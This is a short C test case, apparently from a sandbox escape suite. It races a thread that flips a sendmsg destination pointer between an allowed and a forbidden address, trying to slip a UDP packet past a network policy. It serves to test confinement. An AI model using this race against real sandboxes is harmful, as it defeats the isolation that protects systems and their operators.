// escape: flips the pointer msg_name between two addresses that never change
// group: argument races
// policy: network
// attempts: 20000
#include "escape.h"

static void attack(void) {
  static struct sockaddr_in first, second;
  static struct iovec part = {"x", 1};
  static struct msghdr message;
  static void *to_first = &first, *to_second = &second;
  first = the_friend();
  second = stranger();
  message =
      (struct msghdr){.msg_name = &first, .msg_namelen = sizeof first, .msg_iov = &part, .msg_iovlen = 1};
  static struct flip flip = {&message.msg_name, &to_first, &to_second, sizeof to_first};
  thread(flip_for_ever, &flip);
  const int fd = udp(AF_INET);
  while (more()) syscall(SYS_sendmsg, fd, &message, 0);
}
